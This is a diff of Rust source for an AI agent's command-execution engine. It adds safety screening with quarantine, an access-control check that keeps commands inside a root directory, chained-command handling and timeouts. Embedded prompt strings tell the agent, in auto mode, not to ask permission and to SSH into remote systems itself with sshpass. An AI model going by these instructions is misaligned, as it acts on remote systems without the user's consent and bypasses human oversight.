+            sentinel,
+        }
+    }
+
+    /// How the Sentinel sees an action; `None` for ones it doesn't screen
+    fn sentinel_context(&self, action: &Action) -> Option<sentinel::ActionContext> {
+        let action_type = match action.action_type {
+            ActionType::Response | ActionType::Question => return None,
+            ActionType::Shell => sentinel::ActionType::ShellCommand,
+            ActionType::FileWrite => sentinel::ActionType::FileWrite,
+            ActionType::FileDelete => sentinel::ActionType::FileDelete,
+            ActionType::ServiceControl => sentinel::ActionType::ServiceControl,
+            ActionType::PackageInstall => sentinel::ActionType::PackageInstall,
+            ActionType::McpTool | ActionType::Custom(_) => sentinel::ActionType::Unknown,
+        };
+        Some(sentinel::ActionContext {
+            action_type,
+            content: action.command.clone(),
+            timestamp: std::time::Instant::now(),
+            working_dir: Some(self.working_directory.display().to_string()),
+            target_app: None,
+            screen_context: None,
+        })
+    }
+
+    /// Check an action with the Sentinel before it runs. Returns a failed
+    /// result when it is blocked, waiting in quarantine or was rejected there.
+    fn screen_action(&mut self, action: &Action) -> Option<ExecutionResult> {
+        let sentinel = self.sentinel.clone()?;
+        let context = self.sentinel_context(action)?;
+
+        let error = match sentinel.claim(&context) {
+            Some(held) => match held.status {
+                QuarantineStatus::Released => {
+                    self.held_actions.remove(&held.id);
+                    return None;
+                }
+                QuarantineStatus::Pending => {
+                    self.held_actions.insert(held.id.clone(), action.clone());
+                    format!("Held in quarantine as {} pending release: {}", held.id, held.analysis.reason)
+                }
+                QuarantineStatus::Rejected => {
+                    self.held_actions.remove(&held.id);
+                    format!("Rejected from quarantine ({}): {}", held.id, held.analysis.reason)
+                }
+            },
+            None => {
+                let analysis = sentinel.analyze(&context);
+                match analysis.verdict {
+                    Verdict::Halt => format!("Blocked by Sentinel: {}", analysis.reason),
+                    Verdict::Quarantine => {
+                        let reason = analysis.reason.clone();
+                        let id = sentinel.quarantine(&context, analysis);
+                        self.held_actions.insert(id.clone(), action.clone());
+                        format!("Held in quarantine as {} pending release: {}", id, reason)
                     }
+                    Verdict::Allow | Verdict::Warn | Verdict::Analyze => return None,
+                }
+            }
+        };
+
+        Some(ExecutionResult {
+            action_id: action.id.clone(),
+            command: action.command.clone(),
+            explanation: action.explanation.clone(),
+            success: false,
+            output: String::new(),
+            error: Some(error),
+            duration_ms: 0,
+        })
+    }
+
+    /// Run an action this engine parked in quarantine, now that it has been
+    /// released. Returns `None` if the engine isn't holding `id`; an action
+    /// that is still pending or was rejected comes back as a failed result.
+    pub async fn run_released(&mut self, id: &str) -> Option<Vec<ExecutionResult>> {
+        let action = self.held_actions.get(id)?.clone();
+        Some(match self.screen_action(&action) {
+            Some(held) => vec![held],
+            None => self.run_action(&action).await,
+        })
+    }
+
+    /// Execute an action, one chained step at a time when `split_chains` is
+    /// on. Steps after a failed `&&` are reported as skipped, as the shell
+    /// would skip them.
+    async fn run_action(&mut self, action: &Action) -> Vec<ExecutionResult> {
+        let steps = if self.split_chains && matches!(action.action_type, ActionType::Shell) {
+            split_chain(&action.command)
+        } else {
+            None
+        };
+        let Some(steps) = steps else {
+            let result = self.execute_action(action).await;
+            self.record_outcome(&result);
+            return vec![result];
+        };
+
+        let mut results = Vec::with_capacity(steps.len());
+        // Step that broke the current `&&` run
+        let mut failed: Option<String> = None;
+        for (i, step) in steps.into_iter().enumerate() {
+            if step.after == Some(ChainOp::Then) {
+                failed = None;
+            }
+            let sub_action = Action {
+                id: format!("{}.{}", action.id, i + 1),
+                command: step.command,
+                ..action.clone()
+            };
+            if let Some(ref failed_command) = failed {
+                results.push(ExecutionResult {
+                    action_id: sub_action.id,
+                    command: sub_action.command,
+                    explanation: sub_action.explanation,
+                    success: false,
+                    output: String::new(),
+                    error: Some(format!("Skipped: `{}` failed", failed_command)),
+                    duration_ms: 0,
+                });
+                continue;
+            }
+
+            let result = self.execute_action(&sub_action).await;
+            self.record_outcome(&result);
+            if !result.success {
+                failed = Some(sub_action.command);
+            }
+            results.push(result);
+        }
+        results
+    }
+
+    /// Execute a single planned action and capture its result
+    async fn execute_action(&mut self, action: &Action) -> ExecutionResult {
+        // Don't burn another attempt on a command that keeps failing
+        let key = Self::command_key(&action.command);
+        if let Some(&failures) = self.failed_commands.get(&key) {
+            if failures >= MAX_COMMAND_FAILURES {
+                let repeated = RepeatedFailure { command: action.command.clone(), failures };
+                return ExecutionResult {
+                    action_id: action.id.clone(),
+                    command: action.command.clone(),
+                    explanation: action.explanation.clone(),
+                    success: false,
+                    output: String::new(),
+                    error: Some(repeated.stuck_message()),
+                    duration_ms: 0,
                 };
+            }
+        }
 
-                let args: serde_json::Value = serde_json::from_str(args_json)
-                    .unwrap_or(serde_json::json!({}));
-
-                // Handle built-in "ganesha:" tools
-                if server == "ganesha" {
-                    let result: Result<String, String> = match tool {
-                        "web_search" => {
-                            // Try multiple ways to get the query (LLMs format it differently)
-                            // Check direct args, mcp_args nested, and common aliases
-                            let query = args.get("query")
-                                .and_then(|q| q.as_str())
-                                .or_else(|| args.get("q").and_then(|q| q.as_str()))
-                                .or_else(|| args.get("search").and_then(|q| q.as_str()))
+        let start = std::time::Instant::now();
+
+        // Handle Response actions - just return the text, no execution
+        if matches!(action.action_type, ActionType::Response) {
+            return ExecutionResult {
+                action_id: action.id.clone(),
+                command: String::new(),
+                explanation: action.explanation.clone(),
+                success: true,
+                output: action.explanation.clone(),
+                error: None,
+                duration_ms: start.elapsed().as_millis() as u64,
+            };
+        }
+
+        // Handle MCP tool actions
+        if matches!(action.action_type, ActionType::McpTool) {
+            use crate::orchestrator::mcp::call_mcp_tool;
+
+            // Parse command format: "server:tool|{json_args}"
+            let (tool_part, args_json) = action.command.split_once('|')
+                .unwrap_or((&action.command, "{}"));
+
+            let (server, tool) = match tool_part.split_once(':') {
+                Some((s, t)) => (s, t),
+                None => {
+                    return ExecutionResult {
+                        action_id: action.id.clone(),
+                        command: action.command.clone(),
+                        explanation: action.explanation.clone(),
+                        success: false,
+                        output: String::new(),
+                        error: Some("Invalid MCP tool format".into()),
+                        duration_ms: start.elapsed().as_millis() as u64,
+                    };
+                }
+            };
+
+            let args: serde_json::Value = serde_json::from_str(args_json)
+                .unwrap_or(serde_json::json!({}));
+
+            // Handle built-in "ganesha:" tools
+            if server == "ganesha" {
+                let result: Result<String, String> = match tool {
+                    "web_search" => {
+                        // Try multiple ways to get the query (LLMs format it differently)
+                        // Check direct args, mcp_args nested, and common aliases
+                        let query = args.get("query")
+                            .and_then(|q| q.as_str())
+                            .or_else(|| args.get("q").and_then(|q| q.as_str()))
+                            .or_else(|| args.get("search").and_then(|q| q.as_str()))
+                            .or_else(|| {
+                                // Check nested mcp_args structure
+                                args.get("mcp_args")
+                                    .and_then(|m| m.get("query"))
+                                    .and_then(|q| q.as_str())
+                            })
+                            .unwrap_or("");
+
+                        if query.is_empty() {
+                            Err(format!("Empty search query. Args received: {}", args))
+                        } else {
+                            let max_results = args.get("max_results")
+                                .and_then(|m| m.as_u64())
                                 .or_else(|| {
-                                    // Check nested mcp_args structure
                                     args.get("mcp_args")
-                                        .and_then(|m| m.get("query"))
-                                        .and_then(|q| q.as_str())
+                                        .and_then(|m| m.get("max_results"))
+                                        .and_then(|r| r.as_u64())
                                 })
-                                .unwrap_or("");
-
-                            if query.is_empty() {
-                                Err(format!("Empty search query. Args received: {}", args))
-                            } else {
-                                let max_results = args.get("max_results")
-                                    .and_then(|m| m.as_u64())
-                                    .or_else(|| {
-                                        args.get("mcp_args")
-                                            .and_then(|m| m.get("max_results"))
-                                            .and_then(|r| r.as_u64())
-                                    })
-                                    .unwrap_or(10) as usize;
-                                match crate::websearch::search(query, max_results).await {
-                                    Ok(response) => {
-                                        let output = crate::websearch::format_results(&response);
-                                        Ok(output)
-                                    }
-                                    Err(e) => Err(e)
+                                .unwrap_or(10) as usize;
+                            match crate::websearch::search(query, max_results).await {
+                                Ok(response) => {
+                                    let output = crate::websearch::format_results(&response);
+                                    Ok(output)
                                 }
+                                Err(e) => Err(e)
                             }
                         }
-                        "exec" | "execute" | "shell" | "run" | "cmd" => {
-                            // Model hallucinated this tool - redirect to show helpful error
-                            // Commands should use the "command" field, not mcp_tool
-                            let cmd = args.get("command")
-                                .or_else(|| args.get("cmd"))
-                                .or_else(|| args.get("script"))
-                                .and_then(|c| c.as_str())
-                                .unwrap_or("");
-
-                            if cmd.is_empty() {
-                                Err("Shell commands must use the 'command' field, NOT mcp_tool. Correct format: {\"actions\":[{\"command\":\"pwd\",\"explanation\":\"Show directory\"}]}".to_string())
-                            } else {
-                                Err(format!("Shell commands must use 'command' field: {{\"actions\":[{{\"command\":\"{}\",\"explanation\":\"Execute\"}}]}}", cmd))
-                            }
-                        }
-                        _ => Err(format!("Unknown ganesha tool: {}. Available: web_search", tool))
-                    };
-
-                    match result {
-                        Ok(output) => {
-                            results.push(ExecutionResult {
-                                action_id: action.id.clone(),
-                                command: format!("ganesha:{}", tool),
-                                explanation: action.explanation.clone(),
-                                success: true,
-                                output,
-                                error: None,
-                                duration_ms: start.elapsed().as_millis() as u64,
-                            });
-                        }
-                        Err(e) => {
-                            results.push(ExecutionResult {
-                                action_id: action.id.clone(),
-                                command: format!("ganesha:{}", tool),
-                                explanation: action.explanation.clone(),
-                                success: false,
-                                output: String::new(),
-                                error: Some(format!("Ganesha tool error: {}", e)),
-                                duration_ms: start.elapsed().as_millis() as u64,
-                            });
+                    }
+                    "exec" | "execute" | "shell" | "run" | "cmd" => {
+                        // Model hallucinated this tool - redirect to show helpful error
+                        // Commands should use the "command" field, not mcp_tool
+                        let cmd = args.get("command")
+                            .or_else(|| args.get("cmd"))
+                            .or_else(|| args.get("script"))
+                            .and_then(|c| c.as_str())
+                            .unwrap_or("");
+
+                        if cmd.is_empty() {
+                            Err("Shell commands must use the 'command' field, NOT mcp_tool. Correct format: {\"actions\":[{\"command\":\"pwd\",\"explanation\":\"Show directory\"}]}".to_string())
+                        } else {
+                            Err(format!("Shell commands must use 'command' field: {{\"actions\":[{{\"command\":\"{}\",\"explanation\":\"Execute\"}}]}}", cmd))
                         }
                     }
-                    continue;
-                }
+                    _ => Err(format!("Unknown ganesha tool: {}. Available: web_search", tool))
+                };
 
-                match call_mcp_tool(server, tool, args) {
-                    Ok(result) => {
-                        // Extract text content from MCP response
-                        // Format: {"content":[{"text":"...","type":"text"}]}
-                        let output = if let Some(content) = result.get("content") {
-                            if let Some(arr) = content.as_array() {
-                                arr.iter()
-                                    .filter_map(|item| item.get("text").and_then(|t| t.as_str()))
-                                    .collect::<Vec<_>>()
-                                    .join("\n")
-                            } else {
-                                result.to_string()
-                            }
-                        } else {
-                            // Fallback to string representation
-                            result.to_string()
-                        };
-                        results.push(ExecutionResult {
+                return match result {
+                    Ok(output) => {
+                        ExecutionResult {
                             action_id: action.id.clone(),
-                            command: format!("{}:{}", server, tool),
+                            command: format!("ganesha:{}", tool),
                             explanation: action.explanation.clone(),
                             success: true,
                             output,
                             error: None,
                             duration_ms: start.elapsed().as_millis() as u64,
-                        });
+                        }
                     }
                     Err(e) => {
-                        results.push(ExecutionResult {
+                        ExecutionResult {
                             action_id: action.id.clone(),
-                            command: format!("{}:{}", server, tool),
+                            command: format!("ganesha:{}", tool),
                             explanation: action.explanation.clone(),
                             success: false,
                             output: String::new(),
-                            error: Some(format!("MCP error: {}", e)),
+                            error: Some(format!("Ganesha tool error: {}", e)),
                             duration_ms: start.elapsed().as_millis() as u64,
-                        });
+                        }
                     }
-                }
-                continue;
+                };
             }
 
-            // Final access check (skip for auto mode, except critical dangers)
-            if self.auto_approve {
-                if self.access.is_critical_danger(&action.command) {
-                    self.logger
-                        .command_denied("user", &action.command, "Critical danger blocked");
-                    results.push(ExecutionResult {
+            return match call_mcp_tool(server, tool, args) {
+                Ok(result) => {
+                    // Extract text content from MCP response
+                    // Format: {"content":[{"text":"...","type":"text"}]}
+                    let output = if let Some(content) = result.get("content") {
+                        if let Some(arr) = content.as_array() {
+                            arr.iter()
+                                .filter_map(|item| item.get("text").and_then(|t| t.as_str()))
+                                .collect::<Vec<_>>()
+                                .join("\n")
+                        } else {
+                            result.to_string()
+                        }
+                    } else {
+                        // Fallback to string representation
+                        result.to_string()
+                    };
+                    ExecutionResult {
                         action_id: action.id.clone(),
-                        command: action.command.clone(),
+                        command: format!("{}:{}", server, tool),
                         explanation: action.explanation.clone(),
-                        success: false,
-                        output: String::new(),
-                        error: Some("Command blocked for safety".into()),
+                        success: true,
+                        output,
+                        error: None,
                         duration_ms: start.elapsed().as_millis() as u64,
-                    });
-                    continue;
+                    }
                 }
-            } else {
-                let check = self.access.check_command(&action.command);
-                if !check.allowed {
-                    self.logger
-                        .command_denied("user", &action.command, &check.reason);
-                    results.push(ExecutionResult {
+                Err(e) => {
+                    ExecutionResult {
                         action_id: action.id.clone(),
-                        command: action.command.clone(),
+                        command: format!("{}:{}", server, tool),
                         explanation: action.explanation.clone(),
                         success: false,
                         output: String::new(),
-                        error: Some(check.reason),
+                        error: Some(format!("MCP error: {}", e)),
                         duration_ms: start.elapsed().as_millis() as u64,
-                    });
-                    continue;
+                    }
                 }
+            };
+        }
+
+        // Final access check (skip for auto mode, except critical dangers)
+        if self.auto_approve {
+            if self.access.is_critical_danger(&action.command) {
+                self.logger
+                    .command_denied("user", &action.command, "Critical danger blocked");
+                return ExecutionResult {
+                    action_id: action.id.clone(),
+                    command: action.command.clone(),
+                    explanation: action.explanation.clone(),
+                    success: false,
+                    output: String::new(),
+                    error: Some("Command blocked for safety".into()),
+                    duration_ms: start.elapsed().as_millis() as u64,
+                };
             }
+        } else {
+            let check = self.access.check_command(&action.command);
+            if !check.allowed {
+                self.logger
+                    .command_denied("user", &action.command, &check.reason);
+                return ExecutionResult {
+                    action_id: action.id.clone(),
+                    command: action.command.clone(),
+                    explanation: action.explanation.clone(),
+                    success: false,
+                    output: String::new(),
+                    error: Some(check.reason),
+                    duration_ms: start.elapsed().as_millis() as u64,
+                };
+            }
+        }
 
-            // Execute
-            let result = self.execute_command(&action.command).await;
-            let duration_ms = start.elapsed().as_millis() as u64;
-
-            match result {
-                Ok(output) => {
-                    self.logger.command_executed(
-                        "user",
-                        &action.command,
-                        &action.risk_level.to_string(),
-                        self.current_session
-                            .as_ref()
-                            .map(|s| s.id.as_str())
-                            .unwrap_or(""),
-                    );
-                    results.push(ExecutionResult {
-                        action_id: action.id.clone(),
-                        command: action.command.clone(),
-                        explanation: action.explanation.clone(),
-                        success: true,
-                        output,
-                        error: None,
-                        duration_ms,
-                    });
+        // Execute
+        let result = self.execute_command(&action.command).await;
+        let duration_ms = start.elapsed().as_millis() as u64;
+
+        match result {
+            Ok(output) => {
+                self.logger.command_executed(
+                    "user",
+                    &action.command,
+                    &action.risk_level.to_string(),
+                    self.current_session
+                        .as_ref()
+                        .map(|s| s.id.as_str())
+                        .unwrap_or(""),
+                );
+                ExecutionResult {
+                    action_id: action.id.clone(),
+                    command: action.command.clone(),
+                    explanation: action.explanation.clone(),
+                    success: true,
+                    output,
+                    error: None,
+                    duration_ms,
                 }
-                Err(e) => {
-                    results.push(ExecutionResult {
-                        action_id: action.id.clone(),
-                        command: action.command.clone(),
-                        explanation: action.explanation.clone(),
-                        success: false,
-                        output: String::new(),
-                        error: Some(e.to_string()),
-                        duration_ms,
-                    });
+            }
+            Err(e) => {
+                ExecutionResult {
+                    action_id: action.id.clone(),
+                    command: action.command.clone(),
+                    explanation: action.explanation.clone(),
+                    success: false,
+                    output: String::new(),
+                    error: Some(e.to_string()),
+                    duration_ms,
                 }
             }
         }
+    }
 
-        if let Some(ref mut session) = self.current_session {
-            session.results = results.clone();
-            session.state = if results.iter().all(|r| r.success) {
-                SessionState::Completed
-            } else {
-                SessionState::Failed
-            };
-            session.completed_at = Some(Utc::now());
-        }
+    /// Adaptive execution: ask the model whether the results so far invalidate
+    /// the remaining actions. Returns a replacement plan only when the model
+    /// proposes something different from what is already queued.
+    async fn revise_remaining_actions(
+        &mut self,
+        task: &str,
+        results: &[ExecutionResult],
+        pending: &VecDeque<Action>,
+    ) -> Option<ExecutionPlan> {
+        let remaining: Vec<&str> = pending.iter().map(|a| a.command.as_str()).collect();
+        let review_task = format!(
+            "{}\n[MID-PLAN CHECK] Still planned: {}. If these still make sense, reply with exactly those actions; otherwise reply with the actions that should run instead.",
+            task,
+            remaining.join(" ; ")
+        );
 
-        // Save session (separate borrow scope)
-        if let Some(ref session) = self.current_session {
-            self.save_session(session)?;
+        // A failed review should never abort the plan - just keep going
+        let (_, next_plan) = self.analyze_results(&review_task, results).await.ok()?;
+        let mut revised = next_plan?;
+
+        let proposed: Vec<&str> = revised.actions.iter().map(|a| a.command.as_str()).collect();
+        if proposed.is_empty() || proposed == remaining {
+            return None;
         }
 
-        Ok(results)
+        revised.task = task.to_string();
+        Some(revised)
     }
 
     /// Analyze execution results and generate a response
@@ -798,8 +1585,11 @@ impl<L: LlmProvider, C: ConsentHandler> GaneshaEngine<L, C> {
                 8000   // 8K for regular commands
             };
 
+            // Label each result with its action's stable ID so the model can
+            // refer back to specific steps regardless of execution order
             result_summary.push_str(&format!(
-                "Command: {}\nStatus: {}\nOutput:\n{}\n\n",
+                "Step: {}\nCommand: {}\nStatus: {}\nOutput:\n{}\n\n",
+                result.action_id,
                 result.command,
                 if result.success { "SUCCESS" } else { "FAILED" },
                 if result.output.len() > max_output {
@@ -914,20 +1704,56 @@ DO NOT tell users to SSH themselves - YOU do it!"#,
 
         // Build messages for LLM
         let user_msg = format!("Analyze the results and respond to: {}", task);
-        let messages = vec![
+        let mut messages = vec![
             ChatMessage::system(&system_prompt),
             ChatMessage::user(&user_msg),
         ];
+        let mut denials = 0;
+        let mut repeat_warnings = 0;
 
-        let response = self.llm.generate_with_history(&messages).await
-            .map_err(|e| GaneshaError::LlmError(e.to_string()))?;
+        loop {
+            let response = self.llm.generate_with_history(&messages).await
+                .map_err(|e| GaneshaError::LlmError(e.to_string()))?;
+
+            let (summary, next_plan) = self.interpret_analysis(task, &response);
+            let Some(plan) = next_plan else {
+                return Ok((summary, None));
+            };
+
+            // Follow-up actions go through access control before they're returned,
+            // so the model gets a chance to route around a denial within policy
+            if let Some(denied) = self.first_denied_action(&plan) {
+                self.logger.command_denied("user", &denied.command, &denied.reason);
+                if denials >= MAX_DENIAL_RETRIES {
+                    return Ok((denied.give_up_message(), None));
+                }
+                denials += 1;
+
+                messages.push(ChatMessage::assistant(&response));
+                messages.push(ChatMessage::system(&denied.feedback_message()));
+                continue;
+            }
+
+            // A command that already failed repeatedly gets one nudge towards
+            // a different approach; if the model insists, we stop
+            let Some(repeated) = self.first_repeated_failure(&plan) else {
+                return Ok((summary, Some(plan)));
+            };
+
+            if repeat_warnings >= 1 {
+                return Ok((repeated.stuck_message(), None));
+            }
+            repeat_warnings += 1;
 
-        // Clean up LLM control tokens
-        let cleaned = Self::strip_control_tokens(&response);
-        let sanitized = Self::sanitize_json_string(&cleaned);
+            messages.push(ChatMessage::assistant(&response));
+            messages.push(ChatMessage::system(&repeated.feedback_message()));
+        }
+    }
 
+    /// Interpret the model's analysis reply as either a final answer or follow-up actions
+    fn interpret_analysis(&mut self, task: &str, response: &str) -> (String, Option<ExecutionPlan>) {
         // Try to parse as response
-        if let Ok(parsed) = serde_json::from_str::<serde_json::Value>(&sanitized) {
+        if let Some(parsed) = json_extract::extract_first_json_object(response) {
             // Check for response (task complete) - try multiple keys
             let response_text = parsed.get("response").and_then(|v| v.as_str())
                 .or_else(|| parsed.get("").and_then(|v| v.as_str()))  // Handle {"":"text"}
@@ -937,7 +1763,7 @@ DO NOT tell users to SSH themselves - YOU do it!"#,
             if let Some(response_text) = response_text {
                 if !response_text.is_empty() {
                     self.conversation_history.push(ChatMessage::assistant(response_text));
-                    return Ok((response_text.to_string(), None));
+                    return (response_text.to_string(), None);
                 }
             }
 
@@ -951,7 +1777,7 @@ DO NOT tell users to SSH themselves - YOU do it!"#,
                             action_val.get("explanation").and_then(|v| v.as_str()),
                         ) {
                             plan.actions.push(Action {
-                                id: uuid::Uuid::new_v4().to_string()[..8].to_string(),
+                                id: self.next_action_id(),
                                 action_type: ActionType::Shell,
                                 command: cmd.to_string(),
                                 explanation: expl.to_string(),
@@ -963,7 +1789,7 @@ DO NOT tell users to SSH themselves - YOU do it!"#,
                         }
                     }
                     if !plan.actions.is_empty() {
-                        return Ok((String::new(), Some(plan)));
+                        return (String::new(), Some(plan));
                     }
                 }
             }
@@ -974,39 +1800,51 @@ DO NOT tell users to SSH themselves - YOU do it!"#,
                     if let Some(text) = value.as_str() {
                         if !text.is_empty() && text.len() > 10 {
                             self.conversation_history.push(ChatMessage::assistant(text));
-                            return Ok((text.to_string(), None));
+                            return (text.to_string(), None);
                         }
                     }
                 }
             }
         }
 
-        // Fallback - try to extract text from JSON-like response
-        let cleaned_trimmed = cleaned.trim();
-        if !cleaned_trimmed.is_empty() {
-            // If it looks like JSON but parsing failed, try to extract text content
-            if cleaned_trimmed.contains("\":\"") {
-                // Try to extract value from {"key":"value"} pattern
-                if let Ok(re) = regex::Regex::new(r#""[^"]*"\s*:\s*"([^"]+)""#) {
-                    if let Some(caps) = re.captures(cleaned_trimmed) {
-                        if let Some(text) = caps.get(1) {
-                            let extracted = text.as_str().to_string();
-                            if !extracted.is_empty() {
-                                return Ok((extracted, None));
-                            }
-                        }
-                    }
-                }
-            }
-
-            // If not JSON-looking, return as plain text
-            if !cleaned_trimmed.starts_with('{') && !cleaned_trimmed.starts_with('[') {
-                return Ok((cleaned_trimmed.to_string(), None));
-            }
+        // Fallback - return plain text as is (clean up LLM control tokens)
+        let cleaned = Self::strip_control_tokens(response);
+        let cleaned_trimmed = cleaned.trim();
+        if !cleaned_trimmed.is_empty() && !cleaned_trimmed.starts_with('{') && !cleaned_trimmed.starts_with('[') {
+            return (cleaned_trimmed.to_string(), None);
         }
 
         // Last resort - return empty (execution output was already shown)
-        Ok((String::new(), None))
+        (String::new(), None)
+    }
+
+    /// Find the first action in a follow-up plan that access control would refuse
+    fn first_denied_action(&self, plan: &ExecutionPlan) -> Option<CapabilityDenied> {
+        plan.actions
+            .iter()
+            .filter(|a| !matches!(a.action_type, ActionType::Response | ActionType::McpTool))
+            .find_map(|action| {
+                let reason = if let Some(check) = self.check_boundary(&action.command) {
+                    Some(check.reason)
+                } else if self.auto_approve {
+                    self.access
+                        .is_critical_danger(&action.command)
+                        .then(|| "Command blocked for safety (even in auto mode)".to_string())
+                } else {
+                    let check = self.access.check_command(&action.command);
+                    (!check.allowed).then_some(check.reason)
+                };
+                reason.map(|reason| CapabilityDenied {
+                    command: action.command.clone(),
+                    reason,
+                })
+            })
+    }
+
+    /// Denial for a command that leaves `root_boundary`, if one is set
+    fn check_boundary(&self, command: &str) -> Option<access_control::AccessCheckResult> {
+        let root = self.root_boundary.as_ref()?;
+        self.access.check_boundary(command, &self.working_directory, root)
     }
 
     /// Extract cd target from command and return (new_cwd, remaining_command)
@@ -1059,26 +1897,136 @@ DO NOT tell users to SSH themselves - YOU do it!"#,
     }
 
     async fn execute_command(&mut self, command: &str) -> Result<String, GaneshaError> {
+        let sink = self.on_output.clone();
+        self.execute_command_streaming(command, |line| {
+            if let Some(ref sink) = sink {
+                sink(line);
+            }
+        })
+        .await
+    }
+
+    /// Run a command, passing each line of output to `on_line` as it arrives.
+    /// Returns the captured output, capped at `max_output_lines` and
+    /// `max_output_bytes` per stream.
+    pub async fn execute_command_streaming<F>(&mut self, command: &str, mut on_line: F) -> Result<String, GaneshaError>
+    where
+        F: FnMut(&OutputLine<'_>) + Send,
+    {
+        use tokio::io::BufReader;
         use tokio::process::Command;
 
+        if let Some(check) = self.check_boundary(command) {
+            self.logger.command_denied("user", command, &check.reason);
+            return Err(GaneshaError::AccessDenied(check.reason));
+        }
+
         // Track cd commands to update working directory for subsequent commands
         // Pattern: "cd /path" or "cd /path && ..." or "mkdir -p /path && cd /path"
-        let (effective_cwd, effective_command) = self.extract_cd_and_command(command);
+        let (effective_cwd, mut effective_command) = self.extract_cd_and_command(command);
+
+        // Commands run without stdin, so anything that prompts would only
+        // hang until the timeout
+        match self.interactive_guard.prepare(&effective_command) {
+            Prepared::Unchanged => {}
+            Prepared::Rewritten { command: rewritten, .. } => {
+                crate::cli::print_info(&format!("Running non-interactively: {}", rewritten));
+                effective_command = rewritten;
+            }
+            Prepared::Refused { rule, suggestion } => {
+                return Err(GaneshaError::ExecutionFailed(format!(
+                    "Refused interactive command ({}): {}",
+                    rule, suggestion
+                )));
+            }
+        }
 
         let working_dir = effective_cwd.as_ref().unwrap_or(&self.working_directory);
 
-        let output = if cfg!(target_os = "windows") {
-            Command::new("cmd")
-                .args(["/C", &effective_command])
-                .current_dir(working_dir)
-                .output()
-                .await?
+        let mut cmd = if cfg!(target_os = "windows") {
+            let mut cmd = Command::new("cmd");
+            cmd.args(["/C", &effective_command]);
+            cmd
         } else {
-            Command::new("sh")
-                .args(["-c", &effective_command])
-                .current_dir(working_dir)
-                .output()
-                .await?
+            let mut cmd = Command::new("sh");
+            cmd.args(["-c", &effective_command]);
+            cmd
+        };
+        cmd.current_dir(working_dir)
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped())
+            .kill_on_drop(true);
+        // Run in its own process group so a timeout can kill the whole tree,
+        // not just the shell. On our terminal the group is also handed the
+        // foreground, so sudo and ssh password prompts work rather than
+        // stopping on SIGTTIN/SIGTTOU; off it, a new session with no terminal
+        // makes such prompts fail straight away.
+        #[cfg(unix)]
+        let _foreground = match TerminalForeground::acquire() {
+            Some(foreground) => {
+                cmd.process_group(0);
+                let tty = foreground.fd();
+                // SAFETY: only async-signal-safe calls between fork and exec
+                unsafe {
+                    cmd.pre_exec(move || {
+                        with_sigttou_blocked(|| libc::tcsetpgrp(tty, libc::getpid()));
+                        Ok(())
+                    });
+                }
+                Some(foreground)
+            }
+            None => {
+                // SAFETY: setsid() is async-signal-safe
+                unsafe {
+                    cmd.pre_exec(|| {
+                        libc::setsid();
+                        Ok(())
+                    });
+                }
+                None
+            }
+        };
+
+        let mut child = cmd.spawn()?;
+        let pid = child.id();
+        let max_bytes = self.max_output_bytes;
+        let mut stdout_lines = child.stdout.take().map(|out| LineReader::new(BufReader::new(out), max_bytes));
+        let mut stderr_lines = child.stderr.take().map(|err| LineReader::new(BufReader::new(err), max_bytes));
+        let mut stdout_capture = OutputCapture::new(self.max_output_lines, max_bytes);
+        let mut stderr_capture = OutputCapture::new(self.max_output_lines, max_bytes);
+
+        // Forward lines from both streams as they come, until both close
+        let run = async {
+            while stdout_lines.is_some() || stderr_lines.is_some() {
+                let (line, stderr) = tokio::select! {
+                    line = next_line(&mut stdout_lines) => (line, false),
+                    line = next_line(&mut stderr_lines) => (line, true),
+                };
+                let Some((line, dropped)) = line else {
+                    if stderr { stderr_lines = None } else { stdout_lines = None }
+                    continue;
+                };
+                let text = String::from_utf8_lossy(&line);
+                let text = text.strip_suffix('\r').unwrap_or(&text);
+                on_line(&OutputLine { command, text, stderr });
+                if stderr { stderr_capture.push(text, dropped) } else { stdout_capture.push(text, dropped) }
+            }
+            child.wait().await
+        };
+
+        let limit = self.access.max_execution_time();
+        let status = match tokio::time::timeout(limit, run).await {
+            Ok(status) => status?,
+            Err(_) => {
+                Self::kill_process_group(pid);
+                return Err(GaneshaError::Timeout(limit.as_secs()));
+            }
+        };
+        let output = CapturedOutput {
+            status,
+            stdout: stdout_capture.finish(),
+            stderr: stderr_capture.finish(),
         };
 
         // If command succeeded and we changed directory, persist the change
@@ -1088,8 +2036,7 @@ DO NOT tell users to SSH themselves - YOU do it!"#,
             }
         }
 
-        let stdout = String::from_utf8_lossy(&output.stdout).to_string();
-        let stderr = String::from_utf8_lossy(&output.stderr).to_string();
+        let CapturedOutput { stdout, stderr, .. } = output;
 
         // For informational commands, non-zero exit is still a valid result
         // e.g., `which foo` returns 1 if not found, but that's an answer not an error
@@ -1136,6 +2083,21 @@ DO NOT tell users to SSH themselves - YOU do it!"#,
         }
     }
 
+    /// Kill a timed-out command and everything it started. The shell itself
+    /// is also killed when its handle is dropped.
+    fn kill_process_group(pid: Option<u32>) {
+        #[cfg(unix)]
+        if let Some(pid) = pid {
+            // SAFETY: kill() has no memory-safety preconditions; a negative
+            // pid addresses the process group created for this command
+            unsafe {
+                libc::kill(-(pid as libc::pid_t), libc::SIGKILL);
+            }
+        }
+        #[cfg(not(unix))]
+        let _ = pid;
+    }
+
     fn build_planning_prompt(&self) -> String {
         let auto_mode = if self.auto_approve {
             "\nAUTO MODE ENABLED: DO NOT ask permission or tell user to do things. Execute commands directly. SSH into remote systems yourself using sshpass. Complete the entire task autonomously."
@@ -1942,7 +2904,7 @@ setInterval(() => {{
         if let Some(ref dir) = directory {
             let quoted_dir = Self::quote_path_if_needed(dir);
             plan.actions.push(Action {
-                id: Uuid::new_v4().to_string()[..8].to_string(),
+                id: self.next_action_id(),
                 action_type: ActionType::Shell,
                 command: format!("mkdir -p {}", quoted_dir),
                 explanation: format!("Create directory: {}", dir),
@@ -1954,7 +2916,7 @@ setInterval(() => {{
         }
 
         plan.actions.push(Action {
-            id: Uuid::new_v4().to_string()[..8].to_string(),
+            id: self.next_action_id(),
             action_type: ActionType::FileWrite,
             command: write_command,
             explanation: format!(
@@ -2038,26 +3000,29 @@ setInterval(() => {{
         if std::env::var("GANESHA_DEBUG").is_ok() {
             eprintln!("[DEBUG] Lightly cleaned: {}", &lightly_cleaned[..lightly_cleaned.len().min(150)]);
         }
-        if let Some(action) = Self::parse_lm_studio_function_call(&lightly_cleaned) {
+        if let Some(mut action) = Self::parse_lm_studio_function_call(&lightly_cleaned) {
+            action.id = self.next_action_id();
             return Ok(vec![action]);
         }
 
-        // Now do full stripping for standard JSON parsing
